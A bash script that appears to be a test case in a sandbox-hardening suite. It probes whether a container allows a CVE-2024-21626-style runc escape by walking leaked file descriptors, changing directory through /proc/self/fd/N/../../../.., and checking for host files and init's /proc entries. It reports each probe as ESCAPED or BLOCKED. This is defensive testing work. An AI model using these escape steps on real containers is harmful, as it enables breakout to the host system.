# ccx-attack: CVE-2024-21626 style from bash: cd into every open descriptor and climb to the host
# ccx-category: runc
# ccx-status: ok
# ccx-steps: 4
# Files every host has and the sandbox's root does not.
host_seen() { [ -e "$1/etc/shadow" ] || [ -e "$1/var" ] || [ -e "$1/home" ] || [ -e "$1/boot" ]; }

# bash itself holds fd 255 on this script, and the glob read /proc/$$/fd through one more,
# closed by now; anything else beyond 0-2 was inherited.
leaked=""
for fd in /proc/$$/fd/*; do
    n=${fd##*/}
    [ -L "$fd" ] || continue
    case $n in 0 | 1 | 2 | 255) ;; *) leaked="$leaked $n" ;; esac
done
if [ -n "$leaked" ]; then
    echo "ESCAPED: inherited descriptors:$leaked"
else
    echo "BLOCKED: descriptors of bash: only 0, 1, 2 and its own script"
fi

# Each descriptor as a cwd, the CVE's way in, then up.
escaped=""
for fd in /proc/$$/fd/*; do
    n=${fd##*/}
    if (cd "/proc/self/fd/$n/../../../.." 2>/dev/null && host_seen .); then
        escaped="$escaped $n"
    fi
done
if [ -n "$escaped" ]; then
    echo "ESCAPED: reached the host through descriptors:$escaped"
else
    echo "BLOCKED: cd /proc/self/fd/N/../../../..: no descriptor leads to the host"
fi

if out=$(ls /proc/1/fd 2>&1); then
    echo "ESCAPED: listed init's descriptors: $out"
else
    echo "BLOCKED: ls /proc/1/fd: ${out##*: }"
fi
if out=$(cd /proc/1/cwd 2>&1); then
    echo "ESCAPED: cd /proc/1/cwd"
else
    echo "BLOCKED: cd /proc/1/cwd: ${out##*: }"
fi
